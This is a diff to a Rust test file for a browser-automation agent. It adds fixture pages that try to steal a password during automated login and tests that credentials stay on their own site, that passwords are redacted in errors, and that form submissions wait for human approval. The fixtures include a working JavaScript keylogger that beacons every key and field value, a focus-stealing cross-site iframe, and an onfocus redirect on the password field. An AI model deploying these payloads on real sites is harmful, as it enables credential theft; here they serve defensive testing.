@@ -72,10 +72,40 @@ fn home(path: &str, other: &str) -> (u16, Option<String>, &'static str, String) 
             ),
         ),
         "/redirect" => (302, Some(format!("{other}/landed")), "text/plain", String::new()),
+        // A login page with another site's frame that keeps taking the focus.
+        "/login-framed" => (200, None, "text/html", format!("{LOGIN_FORM}<iframe src=\"{other}/thief\"></iframe>")),
+        // A login page that leaves for another site when its password field gets the focus.
+        "/login-jumpy" => {
+            let form =
+                LOGIN_FORM.replace("type=password", &format!("type=password onfocus=\"location='{other}/grab'\""));
+            (200, None, "text/html", form)
+        }
+        "/login" => (200, None, "text/html", "<title>Welcome</title><p>Signed in".into()),
+        // A login page with no button that shows what was typed in a dialog.
+        "/login-echo" => (200, None, "text/html", ECHOING_LOGIN.into()),
+        // A form sent by its button, by Enter, and by the page's script from a plain element.
+        "/order" => (200, None, "text/html", ORDER_FORM.into()),
         "/login-elsewhere" => (302, Some(format!("{other}/login")), "text/plain", String::new()),
         _ => (200, None, "text/plain", "home".into()),
     }
 }
+
+const LOGIN_FORM: &str = "<title>Sign in</title><form method=post action=/login><input name=user>\
+    <input type=password name=pw><button type=submit>Sign in</button></form>";
+
+const ECHOING_LOGIN: &str = "<title>Sign in</title><form method=post action=/login><input name=user>\
+    <input type=password name=pw></form><script>setInterval(() => { const v = document.forms[0].pw.value;\
+    if (v) alert('saved ' + v); }, 30);</script>";
+
+const ORDER_FORM: &str = "<title>Order</title><form method=post action=/order><input name=item>\
+    <button type=submit id=send>Order</button></form>\
+    <div id=by-script onclick=\"document.forms[0].requestSubmit()\">Send by script</div>\
+    <div id=old-style onclick=\"document.forms[0].submit()\">Send the old way</div>";
+
+/// Whatever gets keys here tells its server, key by key and value by value.
+const KEY_LOGGER: &str = "<input id=k autofocus><script>const k = document.getElementById('k');\
+    k.addEventListener('keydown', e => { new Image().src = '/key?c=' + encodeURIComponent(e.key); });\
+    k.addEventListener('input', () => { new Image().src = '/val?v=' + encodeURIComponent(k.value); });</script>";
 
 /// The other host: a sign-in form (a look-alike) and plain answers.
 fn other(path: &str, _: &str) -> (u16, Option<String>, &'static str, String) {
@@ -88,6 +118,14 @@ fn other(path: &str, _: &str) -> (u16, Option<String>, &'static str, String) {
             <input name=user><input type=password name=pw><button type=submit>Sign in</button></form>"
                 .into(),
         ),
+        // A frame that takes the focus back every millisecond.
+        "/thief" => (
+            200,
+            None,
+            "text/html",
+            format!("{KEY_LOGGER}<script>setInterval(() => {{ window.focus(); k.focus(); }}, 1);</script>"),
+        ),
+        "/grab" => (200, None, "text/html", format!("<title>Grab</title>{KEY_LOGGER}")),
         _ => (200, None, "text/plain", "other".into()),
     }
 }
@@ -204,4 +242,119 @@ fn page_text_reaches_the_model_between_markers_and_credentials_stay_on_their_sit
         "{posted:?}"
     );
     assert!(posted.iter().any(|l| l.starts_with("GET /login")), "the redirect was followed: {posted:?}");
+}
+
+#[test]
+fn a_password_lands_only_in_its_field_whatever_the_page_does_with_the_focus() {
+    if !have_chromium() {
+        return;
+    }
+    let (near, far) = sites();
+    let dir = TempDir::new("secret-typing");
+    let step = [tool("perform_login", json!({})), tool("finish_task", json!({"summary": "done"}))];
+    let (d, _llm) = llm_daemon(dir.path(), [step.clone(), step].concat(), |_| {});
+    let _worker = RealWorker::start(&d, "login-box", "browser");
+    let c = d.client();
+    let password = "correct-horse-battery-9";
+    for page in ["login-framed", "login-jumpy"] {
+        let login_url = format!("{}/{page}", near.url);
+        let id = create_session(
+            &c,
+            json!({"mode": "task", "target": login_url, "instruction": "Sign in",
+                "credentials": {"username": "bob@example.test", "password": password, "login_url": login_url}}),
+        );
+        wait_status(&c, &id, "finished");
+        // The site got both, sent by its own form; the other host got not one key of them.
+        let posted = near.seen();
+        assert!(posted.iter().any(|l| l.starts_with("POST /login") && l.contains(password)), "{page}: {posted:?}");
+        let stolen = far.seen();
+        assert!(stolen.iter().all(|l| !l.contains("/key") && !l.contains("/val")), "{page}: {stolen:?}");
+        assert!(stolen.iter().all(|l| !l.contains("correct")), "{page}: {stolen:?}");
+    }
+}
+
+#[test]
+fn a_failed_login_tells_the_model_what_the_record_keeps_and_no_password() {
+    if !have_chromium() {
+        return;
+    }
+    let (near, _far) = sites();
+    let dir = TempDir::new("login-echo");
+    let script = vec![tool("perform_login", json!({})), tool("finish_task", json!({"summary": "done"}))];
+    let (d, llm) = llm_daemon(dir.path(), script, |_| {});
+    let _worker = RealWorker::start(&d, "echo-box", "browser");
+    let c = d.client();
+    let login_url = format!("{}/login-echo", near.url);
+    let password = "tr0ub4dor-and-3";
+    let id = create_session(
+        &c,
+        json!({"mode": "task", "target": login_url, "instruction": "Sign in",
+            "credentials": {"username": "bob@example.test", "password": password, "login_url": login_url}}),
+    );
+    wait_status(&c, &id, "finished");
+    // The send failed (no button), and the page's dialog quoted the password in the error.
+    let seen = llm.requests()[1].last_results()[0].clone();
+    assert_eq!(seen["is_error"], true, "{seen}");
+    let told = seen["content"][0]["text"].as_str().unwrap().to_string();
+    assert!(told.contains("login failed") && told.contains("[redacted]"), "{told}");
+    assert!(!told.contains(password), "{told}");
+    let kept = c.get(&format!("/sessions/{id}/conversation")).json().to_string();
+    let told_json = serde_json::to_string(&told).unwrap();
+    assert!(kept.contains(told_json.trim_matches('"')), "the record keeps what the model saw: {kept}");
+}
+
+/// The confirmation the session waits on now, answered.
+fn answer_send(c: &Client, id: &str, approved: bool) -> Value {
+    let p = wait_until(Duration::from_secs(30), "a confirmation", || {
+        let v = c.get(&format!("/sessions/{id}/confirmation")).json();
+        (v["pending"] == true).then_some(v)
+    });
+    let answer = json!({"confirmation_id": p["confirmation_id"], "approved": approved});
+    assert_eq!(c.post(&format!("/sessions/{id}/confirmation"), &answer).json(), json!({"ok": true}));
+    p
+}
+
+#[test]
+fn every_send_of_a_form_waits_for_a_person() {
+    if !have_chromium() {
+        return;
+    }
+    let (near, _far) = sites();
+    let dir = TempDir::new("sends");
+    let order = format!("{}/order", near.url);
+    let script = vec![
+        tool("browser_click", json!({"selector": "#send"})),
+        tool("browser_type", json!({"selector": "input[name=item]", "text": "lamp", "press_enter": true})),
+        tool("browser_navigate", json!({"url": order})),
+        tool("browser_click", json!({"selector": "#by-script"})),
+        tool("browser_click", json!({"selector": "#old-style"})),
+        tool("finish_task", json!({"summary": "done"})),
+    ];
+    let (d, llm) = llm_daemon(dir.path(), script, |_| {});
+    let _worker = RealWorker::start(&d, "sends-box", "browser");
+    let c = d.client();
+    let id = create_session(
+        &c,
+        json!({"mode": "task", "target": order, "instruction": "Order a lamp", "options": {"approval": "human"}}),
+    );
+    let sent = || near.seen().iter().filter(|l| l.starts_with("POST /order")).cloned().collect::<Vec<_>>();
+    // A click on the submit button: asked first, denied, nothing sent.
+    let asked = answer_send(&c, &id, false);
+    assert_eq!(asked["action"], "browser_submit_form", "{asked}");
+    assert!(asked["description"].as_str().unwrap().contains("/order"), "{asked}");
+    assert_eq!(asked["details"]["arguments"]["via"], "browser_click", "{asked}");
+    // Enter in the field: asked, approved, sent once with what was typed.
+    answer_send(&c, &id, true);
+    let posts = wait_until(Duration::from_secs(10), "the approved send", || Some(sent()).filter(|s| !s.is_empty()));
+    assert_eq!(posts.len(), 1, "the denied click sent nothing: {posts:?}");
+    assert!(posts[0].contains("item=lamp"), "{posts:?}");
+    // The page's own script sending the form on a click: held, asked, denied; then
+    // `form.submit()` from script: held, asked, approved and sent.
+    let held = answer_send(&c, &id, false);
+    assert_eq!(held["details"]["arguments"]["via"], "browser_click", "{held}");
+    answer_send(&c, &id, true);
+    wait_status(&c, &id, "finished");
+    assert_eq!(sent().len(), 2, "{:?}", near.seen());
+    let told = llm.requests()[1].last_results()[0].to_string();
+    assert!(told.contains("denied"), "the model is told the click was not run: {told}");
 }
